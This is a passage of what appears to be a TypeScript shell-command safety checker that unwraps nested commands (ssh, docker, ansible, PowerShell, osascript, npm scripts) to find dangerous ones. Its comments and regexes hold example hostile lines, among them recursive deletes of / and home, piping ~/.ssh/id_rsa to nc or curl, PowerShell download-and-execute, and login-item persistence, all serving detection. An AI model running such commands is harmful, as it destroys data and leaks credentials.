    collect(walk, `${lang} ${lang === 'python3' ? '-c' : '-e'} '${code.replace(/'/g, `'\\''`)}'`, inv.cwd, depth + 1, true);
  } else if (name === 'find' && inv.viaXargs && inv.xargsReplace && inv.argv.slice(1).some((a) => a.includes(inv.xargsReplace!))) {
    // echo / | xargs -I % find % -mindepth 1 -exec rm -rf {} +: each item xargs feeds is find's start.
    perItem(walk, inv, inv.argv.map((a) => (/^[\w@%+=:,./~{}-]+$/.test(a) ? a : `'${a.replace(/'/g, `'\\''`)}'`)).join(' '), inv.xargsReplace, depth);
  } else if (name === 'find') {
    findExec(walk, inv, depth);
  } else if (name === 'fd' || name === 'fdfind') {
    const asFind = fdAsFind(inv);
    if (asFind) findExec(walk, asFind, depth);
  } else if (name === 'source' || name === '.') {
    // source /dev/stdin <<< '…': the shell reads its stdin as a script.
    if (/^(-|\/dev\/(stdin|fd\/0)|\/proc\/self\/fd\/0)$/.test(inv.argv[1] ?? '')) stdinScript(walk, inv, depth);
    procSubScript(walk, inv, depth);
    runScriptFile(walk, inv, inv.argv[1] ?? null, depth, null);
  } else if (mayBeDevContainer(inv.argv) && framework().devContainerCommand(inv.argv) !== null) {
    // sail exec, ddev exec, lando ssh -c, docker compose exec|run: in the project's dev container, where it is mounted.
    collect(walk, framework().projectMounts(framework().devContainerCommand(inv.argv)!, walk.env.project), walk.env.project, depth + 1, true);
  } else if (/^(docker|podman|nerdctl|docker-compose|podman-compose)$/.test(name)) {
    containerRun(walk, inv, depth);
  } else if (/^(singularity|apptainer|enroot)$/.test(name)) {
    const asDocker = hpcContainerAsDocker(inv.argv);
    if (asDocker) containerRun(walk, { ...inv, argv: asDocker }, depth);
  } else if (name === 'ctr' && inv.argv.includes('run')) {
    // containerd's ctr run [opts] IMAGE ID CMD…: read as docker run with the same mounts (--mount type=bind,src=…,dst=…).
    const args = inv.argv.slice(inv.argv.indexOf('run') + 1);
    const opts: string[] = [];
    let j = 0;
    for (; j < args.length && args[j].startsWith('-'); j++) {
      const a = args[j];
      if (a === '--mount' && args[j + 1]) opts.push('--mount', args[++j].replace(/(^|,)src=/, '$1source=').replace(/(^|,)dst=/, '$1target=').replace(/options=[^,]*\brw\b[^,]*/, '') );
      else if (a.startsWith('--mount=')) opts.push('--mount', a.slice(8).replace(/(^|,)src=/, '$1source=').replace(/(^|,)dst=/, '$1target='));
      else if (a === '--privileged') opts.push(a);
      else if (/^--(env|label|net-host|cwd|user|device|runtime|snapshotter)$/.test(a) && !/^--net-host$/.test(a)) j++;
    }
    const image = args[j];
    const rest = args.slice(j + 2);
    if (image) containerRun(walk, { ...inv, argv: ['docker', 'run', ...opts, image, ...rest] }, depth);
  } else if (inv.words[0]?.subs.length === 1 && (inv.words[0].text === '$(…)' || (!inv.words[0].quoted && /\s/.test(inv.words[0].text)))) {
    // `echo rm -rf /` or $(printf …) as the command: the output it resolves to, split into words, is the command line.
    const out = inv.words[0].text === '$(…)' ? resolveSubstitution(inv.words[0].subs[0], parseEnv(walk, inv.cwd)) : inv.words[0].text;
    if (out !== null) collect(walk, [out, ...inv.argv.slice(1)].join(' '), inv.cwd, depth + 1, true);
  } else if (name === 'at' || name === 'batch') {
    // echo CMD | at now: at runs the text it reads through sh later; at -f FILE runs FILE.
    if (readsScriptFromStdin(inv.argv)) stdinScript(walk, inv, depth);
    const f = inv.argv[inv.argv.indexOf('-f') + 1];
    if (inv.argv.includes('-f') && f) {
      if (/^\/(tmp|var\/tmp|dev\/shm)\//.test(f)) block(walk, 'dangerous', `${name} -f ${f} schedules a script from a temporary directory to run unattended`);
      else runScriptFile(walk, inv, f, depth, null);
    }
  } else if (name === 'tmux' || name === 'screen' || name === 'ssh') {
    // tmux new -d 'CMD', screen -dm CMD..., ssh HOST CMD: the command runs through a shell (there or here).
    const script = detachedScript(inv.argv);
    if (script !== null) {
      // On the remote host: a public key appended to its authorized_keys there is how a login is set up.
      const was = walk.remote;
      const wasProd = walk.prod;
      walk.remote = name === 'ssh';
      walk.prod ||= name === 'ssh' && /prod/i.test(inv.argv.find((a, k) => k > 0 && !a.startsWith('-') && !/^-[bcDEeFIiJLlmOoPpQRSWw]$/.test(inv.argv[k - 1])) ?? '');
      // ssh HOST bash <<'EOF' … EOF: the remote shell reads the here-document.
      const shellIn = SHELLS.has(base(script.trim().split(/\s+/)[0] ?? '')) && readsScriptFromStdin(script.trim().split(/\s+/)) ? stdinText(inv) : null;
      collect(walk, shellIn ?? script, name === 'ssh' ? null : inv.cwd, depth + 1, true);
      walk.remote = was;
      walk.prod = wasProd;
    }
  } else if (name === 'git' && inv.argv.includes('config')) {
    // git config alias.X '!CMD': the alias runs CMD through the shell.
    const bang = inv.argv.find((a, k) => k > 1 && a.startsWith('!') && /^alias\./.test(inv.argv[k - 1] ?? ''));
    if (bang) collect(walk, bang.slice(1), inv.cwd, depth + 1, true);
    gitConfigCommands(walk, inv, depth);
  } else if (name === 'osascript') {
    // AppleScript's `do shell script "…"` runs its text through sh (Apple TN2065).
    const src = inv.argv.filter((_, k) => inv.argv[k - 1] === '-e').join('\n') || stdinText(inv) || '';
    for (const m of src.matchAll(/do\s+shell\s+script\s+"((?:[^"\\]|\\.)*)"/gi)) collect(walk, m[1].replace(/\\(.)/g, '$1'), inv.cwd, depth + 1, true);
    // JavaScript for Automation (osascript -l JavaScript): app.doShellScript("…").
    for (const m of src.matchAll(/doShellScript\(\s*(['"`])((?:(?!\1)[^\\]|\\.)*)\1/g)) collect(walk, m[2].replace(/\\(.)/g, '$1'), inv.cwd, depth + 1, true);
    genericCodeDeletes(walk, inv, src);
    if (/make\s+(new\s+)?login\s+item/i.test(src)) block(walk, 'dangerous', 'osascript adds a login item: it starts by itself at every login, a way to stay on the machine');
  } else if (/^(pwsh|powershell)(\.exe)?$/i.test(name)) {
    // What the script runs stands where PowerShell does in a pipeline (pwsh -c 'gc ~/.ssh/id_rsa' | curl …).
    const script = powershellScript(walk, inv);
    const from = walk.out.length;
    if (script !== null) collect(walk, windows().powershellAsSh(script, walk.env.home), inv.cwd, depth + 1, true);
    if (walk.out.length > from) (inv.inner ??= []).push(...walk.out.slice(from));
    // pwsh -File x.ps1 after Invoke-WebRequest/curl -o x.ps1 on the same line: downloaded and run.
    const file = inv.argv.find((_, k) => k > 1 && /^-f(i|il|ile)?$/i.test(inv.argv[k - 1]));
    const got = file !== undefined && inv.cwd !== null ? walk.files.get(resolveFrom(inv.cwd, file))?.downloaded : undefined;
    if (got) block(walk, 'dangerous', `${name} runs ${file}, which ${got} downloaded on the same line: unreviewed code`, 'download first, read it, then run it in a separate step');
    // iex (iwr URL), Invoke-Expression (…).DownloadString(URL): PowerShell's download-and-run.
    if (script !== null && /\b(iex|Invoke-Expression)\b/i.test(script) && /\b(iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString|DownloadData|curl|wget)\b/i.test(script)) block(walk, 'dangerous', `${name} runs code it downloads (Invoke-Expression of a web request): unreviewed code`, 'download it to a file, read it, then run it');
  } else if (/^cmd(\.exe)?$/i.test(name)) {
    // cmd.exe /c "rd /s /q C:\Users" (from WSL): read as the shell command it amounts to, the drives where WSL mounts them.
    const at = inv.argv.findIndex((a) => /^\/\/?[ck]$/i.test(a)); // Git Bash spells /c as //c
    const from = walk.out.length;
    if (at > 0) collect(walk, windows().cmdAsSh(inv.argv.slice(at + 1).join(' '), walk.env.home), inv.cwd, depth + 1, true);
    if (walk.out.length > from) (inv.inner ??= []).push(...walk.out.slice(from));
  } else if (mayBeWindowsAsSh(inv.argv) && windows().windowsAsSh(inv.argv) !== null) collect(walk, windows().windowsAsSh(inv.argv)!, inv.cwd, depth + 1, true);
  else if (name === 'git') gitConfigCommands(walk, inv, depth);
  else if (((/^(npm|pnpm|yarn|bun)$/.test(name) && /^(exec|x|dlx)$/.test(inv.argv[1] ?? '')) || (/^(conda|mamba|micromamba|pixi)$/.test(name) && inv.argv[1] === 'run')) && depth < MAX_DEPTH) genericNested(walk, { ...inv, words: inv.words.slice(1), argv: inv.argv.slice(1) }, depth);
  else if (/^(npm|pnpm|yarn|bun)$/.test(name)) npmScripts(walk, inv, depth);
  else if (/^(cmake|ninja|samu|scons)$/.test(name) && depth < MAX_DEPTH && buildScriptSource(inv.argv) === 'stdin') {
    // cmake -P /dev/stdin <<< 'file(REMOVE_RECURSE …)', ninja -f /dev/stdin, scons -f /dev/stdin: the build script is code (build-rules.ts).
    const text = stdinText(inv);
    const run = text === null ? null : buildScriptCommands(name, text);
    for (const sh of run?.shell ?? []) collect(walk, sh, inv.cwd, depth + 1, true);
    if (run?.python) checkCode(walk, inv, 'python', run.python, depth + 1);
  } else if (name === 'make' && depth < MAX_DEPTH && makeRecipes(walk, inv, depth)) genericNested(walk, { ...inv, words: inv.words.slice(0, 1), argv: inv.argv.slice(0, 1) }, depth);
  else if (!NOT_WRAPPERS.has(name) && !langOf(name ?? '') && depth < MAX_DEPTH) {
    // kubectl exec -n prod …, ansible -i inventory/prod …: what they run, runs in production.
    const wasProd = walk.prod;
    const wasRemote = walk.remote;
    walk.prod ||= /^(kubectl|oc|ansible|ansible-playbook|helm|heroku|fly|flyctl)$/.test(name) && inv.argv.some((a, k) => /prod/i.test(a) && (/^(-n|--namespace|--context|-i|--inventory|-l|--limit|-a|--app)$/.test(inv.argv[k - 1] ?? '') || /^--(namespace|context|inventory|limit|app)=/.test(a) || (name === 'ansible' && k === 1)));
    // Fleet runners (ansible -m shell -a CMD, salt '*' cmd.run CMD, pssh/pdsh/clush CMD): CMD runs on other hosts.
    walk.remote ||= /^(ansible|salt|salt-ssh|pssh|parallel-ssh|pdsh|clush)$/.test(name);
    const adhoc = name === 'ansible' && inv.argv.some((a, k) => /^(-m|--module-name)$/.test(inv.argv[k - 1] ?? '') && /^(ansible\.builtin\.)?(shell|command|raw)$/.test(a)) ? inv.argv.find((_, k) => /^(-a|--args)$/.test(inv.argv[k - 1] ?? '')) : /^salt(-ssh)?$/.test(name) ? inv.argv.find((_, k) => /^cmd\.(run|shell|exec_code_all|run_all)$/.test(inv.argv[k - 1] ?? '')) : undefined;
    if (adhoc) collect(walk, adhoc, null, depth + 1, true);
    // ansible -m file|cron|copy|uri -a ARGS: the shell lines the module amounts to, on the hosts (or here, for what it sends).
    for (const m of infraMayMatch(name ?? '') ? ansibleModuleAsShell(inv.argv) : []) {
      walk.remote = !m.local || wasRemote;
      collect(walk, m.line, m.local ? inv.cwd : null, depth + 1, true);
    }
    walk.remote ||= /^(ansible|salt|salt-ssh|pssh|parallel-ssh|pdsh|clush)$/.test(name);
    genericNested(walk, inv, depth);
    walk.prod = wasProd;
    walk.remote = wasRemote;
  }
  if (SOURCE_RUNNERS.test(name ?? '') && inv.cwd !== null && walk.files.size > 0) {
    // cat > /tmp/m.go <<EOF … EOF; go run /tmp/m.go: the source the line wrote is read for what it runs and deletes.
    for (const w of inv.words.slice(1)) {
      const known = walk.files.get(resolveFrom(inv.cwd, w.text));
      if (known?.content) {
        genericCodeDeletes(walk, inv, known.content);
        for (const l of stringLiterals(known.content)) {
          const c = embeddedCommand(l);
          if (c !== null) collect(walk, c, inv.cwd, depth + 1, true);
        }
      } else if (known?.downloaded) block(walk, 'dangerous', `${name} runs ${w.text}, which ${known.downloaded} downloaded on the same line: unreviewed code`);
    }
  }
  const lang = langOf(name ?? '');
  if (lang && inv.viaXargs) {
    const c = inlineCode(lang, inv.argv).code;
    if (c !== null && deletesArgs(c)) {
      const fed = xargsItems(walk, inv);
      for (const t of fed?.items ?? [STDIN_TARGET]) checkDelete(walk, inv, t, fed?.recursive ?? false, `${name} code given the paths by xargs`);
    }
  }
  if (lang) {
    const { code: code0, readsStdin } = inlineCode(lang, inv.argv);
    // python -c CODE ~ /x: the words after the code are its arguments.
    const code1 = code0 !== null && lang !== 'awk' && inv.argv.lastIndexOf(code0) > 0 ? withArgs(lang, code0, inv.argv.slice(inv.argv.lastIndexOf(code0) + 1)) : code0;
    // perl -MLWP::Simple -e 'getstore(…)': the modules loaded on the command line are part of the code.
    const modules = lang === 'perl' && code1 !== null ? inv.argv.filter((a) => /^-M[\w:]+/.test(a)).map((a) => `use ${a.slice(2).replace(/[=\s].*$/, '')};`).join('\n') : '';
    const code = modules && code1 !== null ? `${modules}\n${code1}` : code1;
    // python3 - ARGS <<'PY': the words after `-` are the script's arguments.
    const dash = inv.argv.indexOf('-');
    const piped = code === null && readsStdin ? stdinText(inv) : null;
    const text = code ?? (piped !== null && dash > 0 && lang !== 'awk' ? withArgs(lang, piped, inv.argv.slice(dash + 1)) : piped);
    if (text !== null) checkCode(walk, inv, lang, text, depth);
    // awk '{print | "nc HOST PORT"}' ~/.ssh/id_rsa: the lines of the files it reads go to a command that sends them.
    const sender = lang === 'awk' && code0 !== null ? /print[^|;}]*\|\s*(["'])\s*(nc|ncat|netcat|curl|socat|telnet|ssh|mail|mailx|sendmail|mutt)\b/.exec(code0) : null;
    const secretIn = sender ? inv.words.slice(inv.argv.lastIndexOf(code0!) + 1).map((w) => target(inv, w).abs).find((a) => isSecret(walk, a)) : undefined;
    if (sender && secretIn) block(walk, 'dangerous', `awk prints ${secretIn} into ${sender[2]}, which sends it away: secrets must not leave this machine`);
    // Code that runs what it reads on stdin (exec(sys.stdin.read()), eval(STDIN.read)): the piped text is code too.
    if (code !== null && /\b(exec|eval)\s*\(?[^;\n]*(stdin|STDIN|<STDIN>|readFileSync\(\s*(0|['"]\/dev\/stdin['"]))/.test(code)) {
      const piped = stdinText(inv);
      if (piped !== null) checkCode(walk, inv, lang, piped, depth);
    }
    else if (!readsStdin) runScriptFile(walk, inv, scriptOperand(inv.argv), depth, lang);
  } else if (/^(\.{0,2}\/|~)/.test(inv.words[0]?.text ?? '')) {
    runScriptFile(walk, inv, inv.words[0].text, depth, null);
    const abs = inv.cwd !== null ? resolveFrom(inv.cwd, inv.words[0].text.replace(/^~(?=\/|$)/, walk.env.home)) : null;
    if (abs && walk.unpacked.some((d) => isUnder(abs, d))) block(walk, 'dangerous', `runs ${inv.words[0].text} from an archive downloaded on the same line: unreviewed code`, 'download and unpack first, read the script, then run it in a separate step');
  } else if (walk.files.size > 0 && name && !name.includes('/')) {
    // A bare name the line put into a directory on PATH (curl … | sudo tee /usr/local/bin/x && x).
    const abs = [...walk.files.keys()].find((f) => path.posix.basename(f) === name && isPathDir(path.posix.dirname(f), walk.env));
    if (abs) runScriptFile(walk, inv, abs, depth, null);
  }
}

/**
 * Commands that matter when they are what a wrapper finally runs: deletes, disks, permissions,
 * git, downloads and network tools, shells and interpreters, services, the machine.
 */
const HEADS = /^(rm|srm|rmdir|unlink|shred|truncate|dd|mkfs(\..+)?|mke2fs|mkswap|wipefs|fdisk|sfdisk|parted|blkdiscard|chmod|chown|chgrp|chattr|setfacl|find|fd|xargs|git|curl|wget|nc|ncat|netcat|socat|scp|rsync|sftp|mv|cp|tee|install|ln|sh|bash|zsh|dash|ksh|fish|sudo|su|doas|env|python[\d.]*|perl|ruby|node|zx|tsx|ts-node|deno|bun|php[\d.]*|lua[\d.]*|kill|pkill|killall|shutdown|reboot|halt|poweroff|systemctl|launchctl|crontab|docker|podman|kubectl|terraform|aws|gcloud|gh|rimraf|del-cli|rm-rf|trash|trash-put|base64|openssl|iptables|usermod|passwd|userdel|chpasswd|visudo|mount|umount|flashrom|ddrescue|npm|pnpm|yarn|journalctl|gpg|security|etcdctl|redis-cli|psql|mysql|sqlite3|mongosh|fastlane|tmutil|defaults|brew|snap|flatpak|firebase|netlify|espefuse(\.py)?|idf\.py|avrdude|STM32_Programmer_CLI)$/;

/**
 * Commands whose arguments are data (text, package names, paths), never a command they run:
 * the generic reading below leaves them alone. Commands the checks handle themselves are in it too.
 */
const NOT_WRAPPERS = new Set([
  'echo', 'printf', 'cat', 'tac', 'tee', 'grep', 'egrep', 'fgrep', 'rg', 'ag', 'ack', 'git', 'gh', 'glab', 'man', 'tldr', 'info', 'which', 'whereis', 'type', 'apropos', 'whatis', 'help',
  'apt', 'apt-get', 'aptitude', 'apt-cache', 'dpkg', 'yum', 'dnf', 'zypper', 'pacman', 'apk', 'brew', 'port', 'snap', 'flatpak', 'pip', 'pip3', 'pipx', 'cargo', 'go', 'gem', 'composer', 'conda', 'mamba', 'nix-env',
  'jq', 'yq', 'sed', 'ls', 'test', '[', '[[', 'alias', 'unalias', 'complete', 'compgen', 'hash', 'history', 'read', 'mapfile', 'logger', 'notify-send', 'say', 'cowsay', 'figlet', 'wc', 'sort', 'uniq',
  'head', 'tail', 'cut', 'tr', 'column', 'diff', 'cmp', 'comm', 'file', 'stat', 'du', 'df', 'touch', 'mkdir', 'cd', 'pushd', 'popd', 'export', 'declare', 'local', 'typeset', 'readonly', 'set', 'unset',
  'shift', 'return', 'exit', 'true', 'false', 'sleep', 'wait', 'curl', 'wget', 'http', 'https', 'xh', 'nc', 'ncat', 'netcat', 'socat', 'telnet', 'ssh', 'scp', 'sftp', 'rsync', 'tmux', 'screen', 'at', 'batch',
  'docker', 'podman', 'nerdctl', 'find', 'fd', 'fdfind', 'xargs', 'sudo', 'env', 'eval', 'source', '.', 'rm', 'srm', 'rmdir', 'unlink', 'truncate', 'shred', 'mv', 'cp', 'install', 'ln', 'dd', 'chmod', 'chown',
  'chgrp', 'chattr', 'setfacl', 'kill', 'pkill', 'killall', 'pgrep', 'ps', 'crontab', 'systemctl', 'launchctl', 'shutdown', 'reboot', 'osascript', 'pwsh', 'powershell', 'base64', 'xxd', 'od', 'strings',
  'less', 'more', 'vi', 'view', 'nano', 'code', 'open', 'xdg-open', 'zip', 'unzip', 'tar', 'gzip', 'gunzip', 'bzip2', 'xz', 'zstd', '7z', 'npm', 'yarn', 'pnpm', 'bun', 'deno', 'make', 'cmake', 'ninja',
  'gradle', 'mvn', 'dotnet', 'openssl', 'gpg', 'ssh-keygen', 'ssh-add', 'ssh-copy-id', 'aws', 'gcloud', 'az', 'gsutil', 'terraform', 'helm', 'redis-cli',
  'date', 'uname', 'id', 'whoami', 'hostname', 'pwd', 'basename', 'dirname', 'realpath', 'readlink', 'mktemp', 'seq', 'yes', 'tput', 'clear', 'bc', 'expr', 'nl', 'paste', 'join', 'split', 'fold', 'fmt',
]);

/** Options of unknown wrappers whose value is a command line (`nix-shell --run`, `script -c`, `expect -c`, `entr -s`, `gdb -ex`, `vim -c`, `sqlite3 '.shell …'`). */
const SCRIPT_OPTS = /^(-c|--run|--command|-x|--exec|-s|--shell|-ex|--eval|-eval|-e|--execute|-cmd|--cmd|--wrap)$/;

/** A command line inside text: `!cmd` (vim, gdb, less), `!sh cmd` (beeline), `!system cmd` (snowsql), `.shell cmd`/`.system cmd` (sqlite3), `spawn cmd` (expect), `exec cmd` (tcl), `\\! cmd` (psql, mysql), or a line starting with a command that matters. */
function embeddedCommand(text: string, anyHead = false): string | null {
  const s = text.replace(/^\s*[:+]*(?=!)/, '');
  const m = /^(?:!(?:sh|system|shell)\s+|!|\\!\s*|\.(?:shell|system)\s+|spawn\s+|exec\s+|system\s+|shell-command\s+|shell\s+|platform\s+shell\s+)(.+)$/s.exec(s);
  if (m) return m[1];
  if (anyHead) return s;
  const first = /^\s*(?:[A-Za-z_]\w*=\S*\s+)*([\w./-]+)/.exec(s)?.[1];
  return first && HEADS.test(base(first)) && /\s/.test(s.trim()) ? s : null;
}

/** Interpreters of languages without a table here: their -e/--eval value is code, not a shell line. */
const CODE_TOOLS = /^(beeline|snowsql|swift|raku|perl6|rakudo|erl|escript|elixir|iex|emacs|racket|guile|sbcl|clisp|clojure|clj|bb|julia|octave|octave-cli|matlab|groovy|scala|spark-shell|amm|kotlinc|kotlin|crystal|ghc|ghci|runghc|ocaml|swipl|gst|nim|dart|jshell|hy|fennel|janet|sqlite3|mysql|psql|mongosh|mongo|gdb|lldb)$/;

/** Text that reads as code of some language rather than a shell line: calls `f(…)`, s-expressions, methods on strings. */
const CODE_LIKE = /\w\s*\(|^\s*\(|["'`]\s*\.\s*[\w!]/;

/**
 * An unknown command that runs another one: a wrapper (firejail, proxychains, runuser, nsenter,
 * strace, valgrind, poetry run, bundle exec, npx, xvfb-run, faketime, parallel, systemd-run...),
 * an option whose value is a command line, or code in a language the analysis does not know whose
 * strings are command lines (tclsh, julia, erl, racket, guile, groovy, octave, emacs --eval,
 * sqlite3 `.shell`). The command it runs is analysed as if typed: after `--`, from the first word
 * that is a command that matters, and each command line found in its option values, string literals
 * and the text fed to it on stdin.
 */
function genericNested(walk: Walk, inv: Invocation, depth: number): void {
  const w = inv.words;
  const scripts: string[] = [];
  const optScripts: string[] = [];
  let from = -1;
  // fastlane run sh command:"…", a task's script:…: a key:value argument whose key says it is a command line.
  for (const x of w.slice(1)) {
    const kv = /^(command|cmd|script|shell_command):(.+)$/s.exec(x.text);
    if (kv) optScripts.push(kv[2]);
  }
  for (let k = 1; k < w.length; k++) {
    const t = w[k].text;
    if (t === '--') {
      from = k + 1;
      break;
    }
    if (/^(command|cmd|script|shell_command):./s.test(t)) continue;
    if (t.startsWith('-') && t.length > 1) {
      const eq = t.indexOf('=');
      const opt = eq > 0 ? t.slice(0, eq) : t;
      // matlab -batch CODE, matlab -r CODE: MATLAB's statements.
      if (SCRIPT_OPTS.test(opt) || /^-[a-zA-Z]+c$/.test(opt) || (/^-(batch|r)$/.test(opt) && /^(matlab|octave|octave-cli)$/.test(base(inv.argv[0] ?? '')))) {
        const v = eq > 0 ? t.slice(eq + 1) : w[k + 1]?.text;
        // julia's `rm -rf $(homedir())/x`: the command's interpolation of the home directory.
        if (v !== undefined) optScripts.push(v.replace(/\$\((?:homedir\(\)|ENV\[\s*"HOME"\s*\])\)/g, walk.env.home));
        if (eq < 0) k++;
      }
      continue;
    }
    // npx rimraf@3 …: a package named with its version is the package.
    // picotool reboot, xcrun simctl shutdown all, vagrant halt: the tool's target restarts, not the machine.
    if (HEADS.test(base(t).replace(/(?<=.)@[^/]*$/, '')) && !(MACHINE_VERB.test(t) && isTargetTool(base(inv.argv[0] ?? '')))) {
      from = k;
      break;
    }
    scripts.push(t);
  }
  // parallel 'rm -rf {}' ::: A B: a quoted template is a command line run once per argument, {} standing for it.
  const psep = base(inv.argv[0] ?? '') === 'parallel' ? w.findIndex((x) => /^:::+$/.test(x.text)) : -1;
  const tpl = psep > 1 ? w.slice(1, psep).find((x) => /\s/.test(x.text))?.text : undefined;
  if (tpl) for (const a of w.slice(psep + 1).filter((x) => !/^:::+$/.test(x.text))) collect(walk, tpl.includes('{}') ? tpl.split('{}').join(a.text) : `${tpl} ${a.text}`, inv.cwd, depth + 1, true);
  if (from > 0 && from < w.length) {
    // parallel CMD ::: A B: each argument after ::: is appended to the command.
    const sep = w.findIndex((x, k) => k > from && x.text === ':::');
    const cmdWords = sep > 0 ? w.slice(from, sep) : w.slice(from);
    const args = sep > 0 ? w.slice(sep + 1).filter((x) => x.text !== ':::') : [];
    const sub = (x: Word, a: Word): Word => ({ ...x, text: x.text.split('{}').join(a.text), dynamic: x.dynamic || a.dynamic, glob: x.glob || a.glob });
    const runs = sep > 0 ? args.map((x) => (cmdWords.some((c) => c.text.includes('{}')) ? cmdWords.map((c) => sub(c, x)) : [...cmdWords, x])) : [cmdWords];
    for (const run of runs) {
      const u = unwrap(run, { home: walk.env.home, cwd: inv.cwd ?? walk.env.cwd });
      if (u.assigned.length > 0) checkAssignments(walk, u.assigned, false, inv.cwd, depth + 1);
      if (u.script !== null) collect(walk, u.script, inv.cwd, depth + 1, true);
      if (u.words.length === 0) continue;
      const name = base(u.words[0].text);
      // lima sudo reboot, multipass exec vm -- sudo poweroff: the VM's or board's own restart.
      if (MACHINE_VERB.test(name) && isTargetTool(base(inv.argv[0] ?? ''))) continue;
      const words = deleteAlias(u.words.map((x, k) => (k === 0 ? { ...x, text: x.text.replace(/(?<=.)@[^/]*$/, '') } : x)));
      const child: Invocation = { ...inv, prod: inv.prod || walk.prod, argv: text(words), words, elevated: inv.elevated || u.elevated, upstream: inv.upstream, nested: true };
      child.argv[0] = base(child.argv[0]);
      walk.out.push(child);
      (inv.inner ??= []).push(child);
      expandNested(walk, child, null as unknown as SimpleCommand, depth + 1);
    }
  }
  // Option values and positionals that are command lines, string literals in code, lines fed on stdin.
  const body0 = stdinText(inv);
  const body = body0 === null ? null : body0.replace(TCL_HOME, walk.env.home);
  for (const c of [...optScripts, ...scripts, ...(body !== null ? [body] : [])]) genericCodeDeletes(walk, inv, c);
  // The option of a tool whose language has no table here (raku -e 'shell "…"') is code whatever it looks like.
  const codeTool = CODE_TOOLS.test(base(inv.argv[0] ?? '')) || isTargetTool(base(inv.argv[0] ?? ''));
  const code = [...scripts, ...optScripts, ...(body !== null ? [body] : [])].filter((x) => CODE_LIKE.test(x) || (codeTool && optScripts.includes(x)));
  const texts = [...scripts, ...code.flatMap(stringLiterals)];
  // run "rm", "-rf", %*ENV<HOME> (raku), (system* "rm" "-rf" …): a call given its command as a list of words is that command line.
  // Seq("rm", "-rf", sys.props("user.home")).! (scala), new ProcessBuilder("rm", …), listOf(…): the same, as a list.
  for (const c of code) for (const m of c.replace(/%\*ENV<HOME>|\$\*HOME\b/g, '"~"').replace(JVM_HOME, '"~"').matchAll(/\b(?:run|shell|system\*?|exec|spawn|process|Process|ProcessBuilder|Seq|List|Array|listOf|arrayOf|asList)\s*\(?\s*((?:"[^"]*"\s*,?\s*){2,})/g)) texts.push(stringLiterals(m[1]).join(' '));
  // ['rm', '-rf', home].execute() (groovy), p.launchPath = "/bin/rm"; p.arguments = ["-rf", home] (swift Process): a program and its arguments.
  for (const c of code) {
    const jc = c.replace(JVM_HOME, '"~"');
    for (const m of jc.matchAll(/\[((?:\s*(['"])[^'"]*\2\s*,?)+)\]\s*\.\s*execute\s*\(/g)) texts.push(stringLiterals(m[1]).join(' '));
    for (const m of jc.matchAll(/(?:launchPath\s*=\s*|executableURL\s*=\s*URL\(\s*fileURLWithPath:\s*)"([^"]+)"[\s\S]{0,200}?arguments\s*=\s*\[([^\]]*)\]/g)) texts.push([base(m[1]), ...stringLiterals(m[2])].join(' '));
  }
  if (body !== null) texts.push(...body.split('\n').map((l) => l.replace(/^\t/, '')));
  const seen = new Set<string>();
  // An option meant for a command line is one, whatever its first word; elsewhere a line counts when it starts with a command that matters.
  for (const x0 of optScripts) {
    // expect/Tcl braces quote like single quotes: spawn sh -c {rm -rf ~}.
    const tcl = /^(expect|tclsh|wish)$/.test(inv.argv[0] ?? '');
    const x = tcl ? x0.replace(TCL_HOME, walk.env.home).replace(/\{([^{}]*)\}/g, (_m, b: string) => `'${b.replace(/'/g, `'\\''`)}'`) : x0;
    seen.add(x);
    // A value in another language (erl's halt(), elisp) is read for the command lines in it, not run as one.
    // Tools whose option is code of their own language (erl -eval, emacs --eval, julia -e…): read for the command lines in it,
    // not run as one (erl's halt() is not /sbin/halt); elsewhere (nix-shell --run, script -c) the value is a shell line.
    // openocd -c 'reset halt', gdb -ex 'monitor reset halt': commands of a debug probe or its target; gdb -ex 'python …' is Python.
    const py = /^(\w+-)*gdb(-multiarch)?$/.test(base(inv.argv[0] ?? '')) ? /^\s*(?:python|py|python-interactive|pi)\s+([\s\S]+)$/.exec(x) : null;
    if (py) checkCode(walk, inv, 'python', py[1], depth + 1);
    const c = codeTool ? embeddedCommand(x) : embeddedCommand(x, true);
    if (c !== null && !(isTargetTool(base(inv.argv[0] ?? '')) && MACHINE_VERB.test(/^\s*([\w-]+)/.exec(c)?.[1] ?? ''))) collect(walk, c, inv.cwd, depth + 1, true);
  }
  for (const x of texts) {
    const c = embeddedCommand(x);
    if (c === null || seen.has(c)) continue;
    seen.add(c);
    collect(walk, c, inv.cwd, depth + 1, true);
  }
}

/** npm pkg set scripts.X="CMD" (also npm set-script X CMD) then npm run X / yarn X / npm test: CMD runs through the shell. */
function npmScripts(walk: Walk, inv: Invocation, depth: number): void {
  const a = inv.argv;
  if ((a[1] === 'pkg' && a[2] === 'set') || a[1] === 'set-script') {
    if (a[1] === 'set-script' && a[2] && a[3]) walk.npmScripts.set(a[2], a[3]);
    for (const x of a.slice(3)) {
      const m = /^scripts\.([^=]+)=(.*)$/s.exec(x);
      if (m) walk.npmScripts.set(m[1], m[2]);
    }
    return;
  }
  const run = a[1] === 'run' || a[1] === 'run-script' ? a[2] : a[1];
  // npm run X also runs preX and postX; npm install runs the install hooks.
  const names = run === undefined ? [] : /^(install|i|ci|add)$/.test(run) ? ['preinstall', 'install', 'postinstall', 'prepare'] : [`pre${run}`, run, `post${run}`];
  for (const n of names) {
    const cmd = walk.npmScripts.get(n);
    if (cmd !== undefined) collect(walk, cmd, inv.cwd, depth + 1, true);
  }
}

/** Tcl's $env(HOME) / $::env(HOME): the home directory. */
const TCL_HOME = /\$(?:::)?env\(HOME\)/g;


/**
 * Code in a language without a table (julia, go, java, c#, rust, kotlin, swift, tcl…): a recursive-delete
 * call given the home directory, / or the working directory in the spellings such languages use
 * (homedir(), os.Getenv("HOME"), System.getProperty("user.home"), pwd()) deletes that tree.
 */
function genericCodeDeletes(walk: Walk, inv: Invocation, code: string): void {
  // Tcl: file delete [-force] [--] PATH (with -force a tree).
  for (const m of code.matchAll(/\bfile\s+delete\s+(-force\s+)?(?:--\s+)?["{]?([~/.][^\s"}\]]*)/g)) {
    const w: Word = { text: m[2].replace(/^~(?=\/|$)/, walk.env.home), dynamic: false, glob: false, subs: [], quoted: true };
    checkDelete(walk, inv, target(inv, w), !!m[1], `${inv.argv[0]} code`);
  }
  // Emacs Lisp (delete-directory "~" t), Elixir File.rm_rf!(System.user_home()).
  // Racket (delete-directory/files (find-system-path 'home-dir)).
